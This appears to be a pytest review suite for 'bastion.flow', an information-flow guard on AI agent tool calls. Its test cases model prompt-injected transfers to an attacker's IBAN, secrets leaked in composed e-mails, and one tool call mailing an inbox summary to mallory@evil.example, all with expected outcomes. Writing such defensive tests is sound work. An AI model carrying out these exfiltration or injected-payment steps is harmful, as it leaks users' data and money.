"""An eighth adversarial review of ``bastion.flow``: commits 6260bfc and 475b55d.

Scope: ``Kernel._finish`` / ``evaluate`` (a redact obligation deferred until quarantine handles
are released: approvals, the approver callback, ``aevaluate``, ``govern``), ``Provenance._leaf``
(unplaced labels and the user's own values), ``Haystacks._sensitive`` (windows of half a value),
``_remember_value`` (``atoms_left``), ``_values.identifiers`` (IBANs grouped with dashes or dots),
``labels_of_args`` (``_merged``), ``has_handle`` and ``_new_handle``, with
``policies/flow-default.yaml``, and one realistic multi-step session end to end.

The tests under "findings" are the review's seven findings: six fixed, and one (a typed amount
passed as "1200.00" is not the user's: a false positive that holds the call) still a strict xfail,
listed in docs/flow.md "Limits". The others are attacks the code already stopped.
"""

from __future__ import annotations

import asyncio
import random
import uuid
from pathlib import Path
from typing import Any

import pytest
from flow_support import CATALOG, INJECTED, PACK, act, call_tool

import bastion
from bastion.flow import Provenance
from bastion.flow._results import HANDLE, _new_handle, has_handle
from bastion.flow._values import identifiers

CAT = CATALOG + """\
  read_file: {class: read, side_effects: false, result: {handling: quarantine}}
  read_docs: {class: read, side_effects: false, result: {integrity: trusted}}
  post_email: {class: egress, sinks: [to], content: [subject, body]}
  pay: {class: write, sinks: [recipient, amount], content: [subject]}
"""
BOB = "bob@corp.example"
USER_IBAN = "DE89370400440532013000"
IBAN = "GB29NWBK60161331926819"  # the attacker's, only in untrusted data
UNTRUSTED = ("untrusted", "internal", "tool:read_inbox")
SECRET = ("trusted", "secret", "tool:read_secrets")
NOTES = ("Board notes, strictly confidential. The merger closes friday with acme. "
         "Vault password: Tr0ub4dor&x")
CARD_RULE = (
    "  - id: mask-cards\n    stage: pre_tool\n    tools: [post_email]\n"
    "    effect: redact\n    redact_pattern: '\\b\\d(?:[ -]?\\d){12,15}\\b'\n")
CARD = "4111 1111 1111 1111"
# a policy that holds every post_email for a human and masks card numbers in what it sends
APPROVE_AND_MASK = """\
version: 1
name: approve-and-mask
default: deny
rules:
  - id: hold-mail
    stage: pre_tool
    tools: [post_email]
    effect: require_approval
  - id: mask-cards
    stage: pre_tool
    tools: [post_email]
    effect: redact
    redact_pattern: '\\b\\d(?:[ -]?\\d){12,15}\\b'
  - id: allow-calls
    stage: pre_tool
    effect: allow
  - id: allow-results
    stage: post_tool
    effect: allow
  - id: allow-input
    stage: input
    effect: allow
"""


@pytest.fixture
def k() -> Any:
    with bastion.Kernel.from_policy(PACK, catalog=CAT) as kernel:
        yield kernel


def _secret_session(k: bastion.Kernel) -> None:
    k.evaluate(act("input", args={
        "text": f"e-mail {BOB} and pay {USER_IBAN}: a note on the board"}))
    call_tool(k, "read_secrets", NOTES)


def _handle(d: bastion.Decision) -> str:
    m = HANDLE.search(str(d.result))
    assert m is not None
    return m.group(0)


# == findings =====================================================================================
# -- 1. an excerpt of a secret inside a longer composed message -----------------------------------
# `_sensitive` finds a value inside a secret, a secret inside a value, and (since 6260bfc) a value
# some window of which (half its length, 16 at least, only for values of 32 or more significant
# characters) lies inside a secret. A message that quotes a sentence of a secret document among
# words of its own matches none of them when the quote is less than half of it: `unknown`, and
# flow-secret-egress lets it out. (Alone the sentence is `secret`.)
@pytest.mark.parametrize("body", [
    "FYI: the merger closes friday",  # 24 significant characters: no window at all
    "Hi Bob, quick update from the board meeting today. The merger closes friday with acme. "
    "Please keep this to yourself until the announcement. Regards, Ann"])
def test_a_secret_sentence_quoted_in_a_composed_message_is_secret(k: bastion.Kernel,
                                                                 body: str) -> None:
    _secret_session(k)
    alone = k.evaluate(act("pre_tool", "post_email", args={
        "to": BOB, "body": "the merger closes friday with acme"}))
    assert alone.effect == "deny"  # control: the quote alone is secret
    d = k.evaluate(act("pre_tool", "post_email", args={"to": BOB, "body": body}))
    assert d.effect == "deny", d.reasons


# -- 2. typed identifiers shield a quoted secret -------------------------------------------------
# `_leaf_labels`: a value whose identifiers the user typed, and whose other words are whole words
# of *some* trusted text, is `trusted` with the labels of the identifiers only; the labels of the
# trusted text that holds the rest (here a secret one) are never added, and the rest is too short
# for `_sensitive`'s windows. The same words alone are `secret`.
@pytest.mark.parametrize("body", [f"{BOB}, Tr0ub4dor&x",
                                  f"{BOB}, {USER_IBAN}, the merger closes friday"])
def test_typed_identifiers_do_not_shield_a_quoted_secret(k: bastion.Kernel, body: str) -> None:
    _secret_session(k)
    rest = body.rpartition(", ")[2]
    assert "secret" in k.provenance("s1").labels_of(rest)  # control: the quote alone
    assert k.evaluate(act("pre_tool", "post_email", args={"to": BOB, "body": rest})).effect \
        == "deny"
    d = k.evaluate(act("pre_tool", "post_email", args={"to": BOB, "body": body}))
    assert "secret" in k.provenance("s1").labels_of(body)
    assert d.effect == "deny"


# -- 3. UUIDs, ticket and part numbers read as IBANs ---------------------------------------------
# `_GROUP_MARK` reads every dash or dot between letters and digits as a space before the IBAN
# pattern, and a grouped IBAN is any two letters, two digits and two or more groups of four: a
# quarter of random UUIDs, and ticket, part and licence numbers ("TS01-2024-0001",
# "AB12-CD34-EF56-GH78"), become `iban:` address identifiers. Quoted from an untrusted result into
# the content of a message, they are `untrusted_identifier`: flow-untrusted-identifier holds an
# ordinary status e-mail. (Before 6260bfc none of them was an identifier.)
def test_dates_versions_phones_and_addresses_read_as_no_iban() -> None:
    for text in ("v1.2.3", "2024-01-15", "+44-20-7946-0958", "CVE-2024-12345",
                 "INV24-0001-0042", "10.0.0.1", "release 2.3.1-rc.2", "31.03.2024"):
        assert not any(a.startswith("iban:") for a in identifiers(text)), text
    assert "iban:gb29nwbk60161331926819" in identifiers("to GB29-NWBK-6016-1331-9268-19 now")


def test_uuids_and_ticket_numbers_are_not_ibans() -> None:
    rnd = random.Random(8)
    n = 2_000
    hits = sum(any(a.startswith("iban:") for a in identifiers(str(uuid.UUID(int=rnd.getrandbits(
        128))))) for _ in range(n))
    assert hits / n < 0.01, hits / n  # measured now: ~0.24
    for text in ("ticket TS01-2024-0001", "part XY12-3456-7890", "key AB12-CD34-EF56-GH78",
                 "build ci42.7781.2210"):
        assert not any(a.startswith("iban:") for a in identifiers(text)), text


@pytest.mark.parametrize("ref", ["8c1f2b4e-ab12-4cde-9f00-1234567890ab", "TS01-2024-0001"])
def test_a_ticket_reference_in_a_message_body_is_not_an_address(k: bastion.Kernel,
                                                                ref: str) -> None:
    k.evaluate(act("input", args={"text": f"tell {BOB} which of my tickets were resolved"}))
    call_tool(k, "read_inbox", [{"id": ref, "title": "printer broken", "status": "resolved"},
                              {"id": "t-2", "title": "vpn down", "status": "open"}])
    d = k.evaluate(act("pre_tool", "post_email", args={
        "to": BOB, "subject": "tickets", "body": f"Resolved: {ref}"}))
    assert "untrusted_identifier" not in k.provenance("s1").labels_of(f"Resolved: {ref}")
    assert d.allowed, d.reasons


# -- 4. argument names that read alike, under the budget -----------------------------------------
# `_labels_of_args` merges the labels of keys 1 and "1" (6260bfc), but when labelling the second
# runs out of budget, the OverBudget handler answers `done.get("1")`: the first value's labels
# alone, `trusted`, for a name whose other value was never examined.
def test_an_unexamined_value_under_an_alike_name_is_not_trusted(
        monkeypatch: pytest.MonkeyPatch) -> None:
    from bastion.flow import _provenance

    p = Provenance()
    p.record_input(f"pay 1200 to {USER_IBAN}")
    p.record(f"new account {IBAN}, " + " ".join(f"w{i}x" for i in range(2_000)), UNTRUSTED)
    monkeypatch.setattr(_provenance, "SCAN_BUDGET", 1)
    plain = p.labels_of_args({"recipient": USER_IBAN, "memo": "as agreed on the phone"})
    assert "trusted" not in plain["memo"]  # control: the unexamined value under its own name
    for args in ({1: USER_IBAN, "1": "as agreed on the phone"},
                 {"1": USER_IBAN, 1: "as agreed on the phone"}):
        assert "trusted" not in p.labels_of_args(args)["1"], args


# -- 5. an address past atoms_left, split across content arguments -------------------------------
# A result's identifiers are looked for only until it gave 4,096 atoms (6260bfc); the rest is
# unplaced. A piece of such an address alone is `untrusted` (unplaced), but the rebuild of a value
# split across arguments finds the address only through remembered atoms (`identifiers(spaced)`)
# or `untrusted_ids`, which hold nothing of it: split into the subject and body of an e-mail to
# the user's colleague, the attacker's account number is no `untrusted_identifier` and goes out.
# (An address evicted by later results had the same gap; one result can now do it alone.)
def test_a_split_address_past_the_atom_bound_is_held(k: bastion.Kernel) -> None:
    call_tool(k, "read_inbox", [f"id {i}" for i in range(4_100)]
            + [f"Our new account is {IBAN}"])
    assert "untrusted" in k.provenance("s1").unplaced
    k.evaluate(act("input", args={"text": f"e-mail {BOB} our new bank details"}))
    whole = k.evaluate(act("pre_tool", "post_email", args={
        "to": BOB, "subject": "bank details", "body": f"the account is {IBAN}"}))
    assert whole.effect == "require_approval"  # control: whole, it is held (unplaced)
    d = k.evaluate(act("pre_tool", "post_email", args={
        "to": BOB, "subject": IBAN[:10], "body": IBAN[10:]}))
    assert d.effect == "require_approval", d.reasons


# == attacks already stopped =======================================================================
# -- deferred redaction: every way a pre_tool call with a handle can be allowed -------------------
def _quarantined_card(kernel: bastion.Kernel) -> str:
    kernel.evaluate(act("input", args={"text": f"e-mail the customer file to {BOB}"}))
    return _handle(call_tool(kernel, "read_file", f"customer card {CARD}"))


def _redacted_release(d: bastion.Decision, handle: str) -> None:
    assert d.allowed and d.redacted, d
    assert "customer card" in str(d.args)  # the handle was released...
    assert CARD not in str(d.args) and handle not in str(d.args)  # ...and masked


# -- 6. an approved call loses its redact obligations --------------------------------------------
# `evaluate_tiers` collects redact (and audit) rules as obligations only when the policy's outcome
# is allow; a require_approval that a granted approval or the approver callback turns into allow
# in `Kernel._finish` has none, so the call runs with its arguments unmasked and
# `Decision.redacted` false. With a quarantine handle the human approved a handle and never saw
# the card number that the released content then carries to the tool.
@pytest.mark.parametrize("how", ["approve", "approver"])
@pytest.mark.parametrize("shape", ["handle", "plain"])
def test_an_approved_call_is_still_redacted(how: str, shape: str) -> None:
    seen: list[Any] = []

    def approver(pending: Any, action: bastion.Action) -> bool:
        seen.append(action.args)
        return True

    options: dict[str, Any] = {"approver": approver} if how == "approver" else {}
    with bastion.Kernel.from_text(APPROVE_AND_MASK, catalog=CAT, **options) as kernel:
        h = _quarantined_card(kernel)
        body = f"file: {h}" if shape == "handle" else f"customer card {CARD}"
        call = act("pre_tool", "post_email", args={"to": BOB, "body": body})
        d = kernel.evaluate(call)
        if how == "approve":
            assert d.effect == "require_approval" and d.approval_id
            kernel.approve(d.approval_id, by="ops")
            d = kernel.evaluate(call._replace(approval=d.approval_id))
        assert d.allowed and "customer card" in str(d.args)
        if shape == "handle":
            assert h not in str(d.args) and CARD not in str(seen)  # released; approver saw h
        assert CARD not in str(d.args)
        assert d.redacted


def test_aevaluate_releases_handles_redacted() -> None:
    with bastion.Kernel.from_text(Path(PACK).read_text() + CARD_RULE, catalog=CAT) as kernel:
        h = _quarantined_card(kernel)
        d = asyncio.run(kernel.aevaluate(act("pre_tool", "post_email", args={
            "to": BOB, "body": [f"see {h}"]})))
        _redacted_release(d, h)


def test_govern_hands_the_tool_released_and_redacted_arguments() -> None:
    with bastion.Kernel.from_text(Path(PACK).read_text() + CARD_RULE, catalog=CAT) as kernel:
        h = _quarantined_card(kernel)
        got: list[str] = []

        @bastion.govern(kernel, session={"id": "s1"}, agent={"id": "agent-1"})
        def post_email(to: str, body: str) -> str:
            got.append(body)
            return "sent"

        assert post_email(BOB, f"attached: {h}") == "sent"
        assert got and "customer card" in got[0] and CARD not in got[0] and h not in got[0]


def test_a_handle_the_release_cannot_swap_still_gets_the_redaction() -> None:
    # a handle inside a tuple key or a set: has_handle sees it, release leaves it (the map is
    # still rebuilt), and the redaction is applied all the same
    with bastion.Kernel.from_text(Path(PACK).read_text() + CARD_RULE, catalog=CAT) as kernel:
        h = _quarantined_card(kernel)
        for body in ({(h, 1): CARD}, [{h}, CARD]):
            d = kernel.evaluate(act("pre_tool", "post_email", args={"to": BOB, "body": body}))
            assert d.allowed and d.redacted
            assert CARD not in str(d.args), body


def test_a_failure_while_releasing_denies_and_is_not_redacted_allow() -> None:
    # two keys that become one once released: observe raises, evaluate fails closed
    with bastion.Kernel.from_text(Path(PACK).read_text() + CARD_RULE, catalog=CAT) as kernel:
        h = _quarantined_card(kernel)
        d = kernel.evaluate(act("pre_tool", "post_email", args={
            "to": BOB, "body": {h: 1, f"customer card {CARD}": 2}}))
        assert d.effect == "deny" and d.code == "internal_error"


# -- has_handle and fresh handles ------------------------------------------------------------------
def test_has_handle_fast_path_agrees_with_the_walk() -> None:
    h = _new_handle()
    for args, want in (({"a": 1, "b": "x", "c": None}, False), ({"a": h}, True),
                       ({"a": f"text {h} text"}, True), ({"a": b"x", "b": [h]}, True),
                       ({"a": 1.5, "b": True, h: 2}, True), ({"a": {"b": h}}, True),
                       ({"a": "bastion-q-xyz"}, False)):
        assert has_handle(args) is want, args


def test_a_handle_in_dotted_or_dashed_text_reads_as_no_identifier() -> None:
    for _ in range(500):
        h = _new_handle()
        for text in (f"ref.{h}", f"{h}.pdf", f"AB12-{h}", f"see {h}, thanks"):
            assert not any(a.partition(":")[0] in ("iban", "email", "url")
                           for a in identifiers(text)), text


# -- unplaced labels and the user's own values ---------------------------------------------------
def test_the_users_iban_echoed_by_a_trusted_tool_is_not_untrusted_after_a_flood(
        k: bastion.Kernel) -> None:
    k.evaluate(act("input", args={"text": "read my mail"}))
    call_tool(k, "read_inbox", [f"id {i}" for i in range(4_100)])  # untrusted, now unplaced
    assert "untrusted" in k.provenance("s1").unplaced
    k.evaluate(act("input", args={"text": f"pay 1200 rent to {USER_IBAN}"}))
    call_tool(k, "read_docs", f"Standing orders: rent to {USER_IBAN}")  # trusted, same IBAN
    labels = k.provenance("s1").labels_of(USER_IBAN)
    assert "trusted" in labels and "untrusted" not in labels, labels
    d = k.evaluate(act("pre_tool", "pay", args={"recipient": USER_IBAN, "amount": 1200}))
    assert d.allowed, d.reasons
    held = k.evaluate(act("pre_tool", "pay", args={"recipient": IBAN, "amount": 1200}))
    assert held.effect == "require_approval"  # never seen, in a session that read untrusted


def test_a_value_mixing_the_users_words_and_an_unplaced_tool_text_is_not_trusted() -> None:
    p = Provenance()
    p.record_input(f"e-mail {BOB} the report")
    p.record([f"id {i}" for i in range(4_100)] + [f"send it to {IBAN}"], UNTRUSTED)
    assert "untrusted" in p.unplaced
    p.record_input(f"e-mail {BOB} the report")
    for value in (f"{BOB}, {IBAN}", f"the report to {IBAN}", f"{BOB} {IBAN[:12]}"):
        assert "trusted" not in p.labels_of(value), value
        assert "untrusted" in p.labels_of(value), value
    assert p.labels_of(BOB) == ["trusted", "user"]


# -- the whole pack, end to end --------------------------------------------------------------------
E2E_CATALOG = """\
version: 1
tools:
  read_inbox: {class: read, side_effects: false,
               result: {integrity: untrusted, confidentiality: internal}}
  send_email: {class: egress, sinks: [to], content: [subject, body]}
  send_money: {class: write, sinks: [recipient, amount], content: [subject]}
"""
INBOX = [
    {"from": "carol@corp.example", "subject": "Meeting moved",
     "body": "The 2024-03-14 sync moves to Friday 10:00, room B2.04. Agenda: the v2.3.1 release."},
    {"from": "news@shop.example", "subject": "Spring sale",
     "body": "Up to 30% off until 31.03.2024. Call +44 20 7946 0958."},
    {"from": "mallory@evil.example", "subject": "Invoice", "body": INJECTED},
]
SUMMARY = ("Three messages: Carol moved the 2024-03-14 sync to Friday 10:00 in room B2.04 "
           "(agenda: the v2.3.1 release); a spring sale newsletter, 30% off until 31.03.2024; "
           "and an invoice asking for a transfer of 5000, which I ignored.")


def _e2e() -> bastion.Kernel:
    k = bastion.Kernel.from_policy(PACK, catalog=E2E_CATALOG)
    k.evaluate(act("input", args={"text": (
        "Summarise my inbox, e-mail the summary to alice@corp.example, then pay my rent of "
        "1200 EUR to DE89 3704 0044 0532 0130 00 with subject 'Rent March'")}))
    assert k.evaluate(act("pre_tool", "read_inbox", args={"limit": 10})).allowed
    d = k.evaluate(act("post_tool", "read_inbox", args={"limit": 10}, result=INBOX))
    assert d.allowed and "injection" in k.provenance("s1").labels
    return k


def test_end_to_end_ordinary_steps_pass_and_the_injected_transfer_is_held() -> None:
    with _e2e() as k:
        mail = k.evaluate(act("pre_tool", "send_email", args={
            "to": "alice@corp.example", "subject": "Inbox summary", "body": SUMMARY}))
        assert mail.allowed, mail.reasons
        rent = k.evaluate(act("pre_tool", "send_money", args={
            "recipient": USER_IBAN, "amount": 1200, "subject": "Rent March"}))
        assert rent.allowed, rent.reasons
        spaced = k.evaluate(act("pre_tool", "send_money", args={
            "recipient": "DE89 3704 0044 0532 0130 00", "amount": "1,200",
            "subject": "Rent March"}))
        assert spaced.allowed, spaced.reasons
        for args in ({"recipient": "US133000000121212121212", "amount": 5000,
                      "subject": "Invoice"},
                     {"recipient": USER_IBAN, "amount": 5000, "subject": "Rent March"},
                     {"recipient": "US13 3000 0001 2121 2121 2121 2", "amount": 1200}):
            d = k.evaluate(act("pre_tool", "send_money", args=args))
            assert d.effect == "require_approval", args
        leak = k.evaluate(act("pre_tool", "send_email", args={
            "to": "alice@corp.example", "subject": "Invoice",
            "body": "Please pay the invoice to US133000000121212121212"}))
        assert leak.effect == "require_approval"
        exfil = k.evaluate(act("pre_tool", "send_email", args={
            "to": "mallory@evil.example", "subject": "Inbox summary", "body": SUMMARY}))
        assert exfil.effect == "require_approval"


def test_end_to_end_a_summary_quoting_a_ticket_number_is_sent() -> None:
    with _e2e() as k:
        k.evaluate(act("pre_tool", "read_inbox", args={"limit": 10}))
        k.evaluate(act("post_tool", "read_inbox", args={"limit": 10}, result=[
            {"from": "it@corp.example", "subject": "Ticket TS01-2024-0001",
             "body": "Your ticket TS01-2024-0001 was closed."}]))
        mail = k.evaluate(act("pre_tool", "send_email", args={
            "to": "alice@corp.example", "subject": "Inbox summary",
            "body": SUMMARY + " IT closed ticket TS01-2024-0001."}))
        assert mail.allowed, mail.reasons


@pytest.mark.xfail(strict=True, reason=(
    "LOW (false positive): the typed amount 1200 passed as the text '1200.00' is `unknown` (the "
    "'.00' is text around a typed number), so the rent payment is held after an untrusted read"))
def test_end_to_end_a_typed_amount_with_cents_is_the_users() -> None:
    with _e2e() as k:
        d = k.evaluate(act("pre_tool", "send_money", args={
            "recipient": USER_IBAN, "amount": "1200.00", "subject": "Rent March"}))
        assert d.allowed, d.reasons
